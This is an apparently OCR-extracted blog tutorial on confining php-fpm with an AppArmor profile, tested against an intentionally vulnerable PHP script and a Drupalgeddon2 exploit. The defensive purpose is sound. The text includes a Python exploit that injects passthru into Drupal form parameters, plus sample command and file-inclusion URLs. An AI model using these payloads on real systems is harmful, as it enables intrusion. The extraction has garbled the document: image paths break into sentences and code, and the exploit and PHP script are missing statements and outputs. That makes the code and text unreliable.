AppArmor: Say Goodbye to Remote Command Execution.

How to kill RCE and RFI directly on the php-fpm process. Let's do a test exploiting Drupalgeddon2.

AppArmor: Say Goodbye to Remote Command Execution.

How to kill RCE and RFI directly on the php-fpm process. Let's do a test exploiting Drupalgeddon2.

I discovered AppArmor just a few days ago (I know, my fault) and I'm totally in love with it. It works, it's easy to use and it could kill vulnerabilities such as Remote Command Execution (RCE) and Remote File Inclusion (RFI).

In this article, I'll make a couple of tests using an AppArmor profile in orderto solve vulnerabilities of a custom PHP script (intentionally vulnerable) and the infamous Drupalgeddon2, without using Web Application Firewall but just by a "policy enforcement" on the php-fpm process.

AppArmor proactively protects the operating system and applications from external or internal threats, even zero-day attacks, by enforcing good behavior and preventing even unknown applicationflaws from being exploited.

AppArmor is a Mandatory Access Control (MAC) security system. Its aim is to provide an easy-to-use security system targeted atsecuring individual applications by defining and restricting what resources and application has access to and can share.

We'll see how, with just one profile, is possible to make ineffective attacks like the following from the OWASP Top 10 (The Ten Most Critical Web Application Security Risks -

A1:2017-Injection: Injection flaws, such as SQL, NoSQL, OS, and LDAP injection, occur when untrusted data is sent to an interpreter as part of a command or query. The attacker’s hostile data can trick the interpreter into executing unintended commands or accessing data without proper authorization.

Let's start from the beginning...AppArmor can assign a profile to a "program" (a binary/process/whatever and, in this case, I'll try to restrict what php-fpm can do on the system). Inside a profile, you can define what the selected program can do; for example, if it can read or write a file or access a directory, if it can connect to something or execute something, etc...

The base unit of AppArmor confinement is a profile, which is a text file describing the privileges, and accesses that an application or service has, in the form of awhite list. The profile text file is compiled by the policy compiler (theapparmor_parser) and loaded into the kernel where the AppArmor security module, a Linux Security Module, enforces all kernel based privileges.

A good start could be using the aa-genprof that analyzes the active program and generate a profile based on its activities. I've created the following profile for my php-fpm (saved in /etc/apparmor.d/usr.sbin.php-fpm7.0 - yes, the filename is theprogram's path replacing / with .):

#include <tunables/global>

/usr/sbin/php-fpm7.0 {
  #include <abstractions/apache2-common>
  #include <abstractions/base>
  #include <abstractions/php5>network unix,
  audit deny network inet,

  unix (receive),
  unix peer=(label=@{profile_name}),

  /etc/group r,
  /etc/nsswitch.conf r,
  /etc/passwd r,
  /etc/php/** r,
  /proc/filesystems r,/run/php/ rw,
  /run/php/php7.0-fpm.sock rw,
  /run/systemd/notify w,
  /tmp/ rw,
  /usr/sbin/php-fpm7.0 mrPix,
  /var/log/php7.0-fpm.log w,

  /var/www/html/** r,

I know that my php-fpm uses a unix socket in order to receive requests from nginx (network unix). For this reason I can prevent it to use the inet family (audit deny network inet). Then, obviously, a list of paths where php-fpm can write to (w) or read from (r).

Here there're two main improvements: first, my PHP script will not connect to anything (no ?link= and second my PHP script can't write on its webroot (no shell upload and no backdoor on other scripts)... a good start is half the job! :)

Now, after enforcing my brand new profile with aa-enforce and a systemctl reload apparmor.service, it's time to test! I need a vulnerable PHP script.

First Test

I've created the following dumb script:if(isset($_GET['cmd'])) {

  if(isset($_GET['inc'])) {

Obviously, it's vulnerable to RCE (/test.php?cmd=id) and LFI/RFI (/test.php?inc=/home/themiddle/test.cpp)... or not?


Isn't it fucking awesome?! The best part of this approach is that you can't bypass it by using techniques like escaping, encoding, concatenation, etc... AppArmor blocks php-fpm itself to execute anything on system.

Trying to exploit the RCE, AppArmor produces the following event:
kernel: audit_printk_skb: 15 callbacks suppressed kernel: audit: apparmor="DENIED" operation="exec" profile="/usr/sbin/php-fpm7.0" name="/bin/dash" pid=15189 comm="php-fpm7.0" requested_mask="x" denied_mask="x" fsuid=33 ouid=0

And this for LFI (/test.php?inc=/home/themiddle/test.cpp):
kernel: audit: apparmor="DENIED" operation="open" profile="/usr/sbin/php-fpm7.0" name="/home/themiddle/test.cpp" pid=15181 comm="php-fpm7.0" requested_mask="r" denied_mask="r" fsuid=33 ouid=0

Check list:• KO /test.php?cmd=id
  • KO /test.php?cmd=nonexistent
  • OK /test.php?inc=/etc/passwd (php-fpm needs to read it)
  • KO /test.php?inc=/etc/issue
  • KO /test.php?inc=

Second Test: Drupal

All know what drupalgeddon2 is (if not, take a look at SA-CORE-2018-002 / CVE-2018-7600). I've installed Drupal 7.50, and added/allowed network inet on AppArmor php-fpm profile (because drupal needs to connect to MySQL). With the following exploit, I'll try to execute commands on the target system:

import requests, re
from sys import argv

def exploit(t, c):
        get_params = {'q':'user/password', 'name[#post_render][]':'passthru', 'name[#markup]':c, 'name[#type]':'markup'}
        post_params = {'form_id':'user_pass', '_triggering_element_name':'name'}
        r =, data=post_params, params=get_params)

        m ='<input type="hidden" name="form_build_id" value="([^"]+)" />', r.text)
        if m:
            found =
            get_params = {'q':'file/ajax/name/#value/' + found}
            post_params = {'form_build_id':found}
            print("form_build_id: "+found+"");
            r =, data=post_params, params=get_params)
            print("RCE Output: \n")

print("\nCommand sent: "+argv[2]+"")

Let's see how it goes without AppArmor enforcement:


The RCE works fine and the blue team is crying. Now let's see what happen if I enable the php-fpm profile:


Problem solved ;)

About the projectAppArmor is an established technology first seen in Immunix and later integrated into Ubuntu, Novell/SUSE, and Mandriva. Core AppArmor functionality is in the mainline Linux kernel from 2.6.36 onwards; work is ongoing by AppArmor, Ubuntu and other developers to mergeadditional AppArmor functionality into the mainline kernel.

Credit:Cover Art by Kris Cook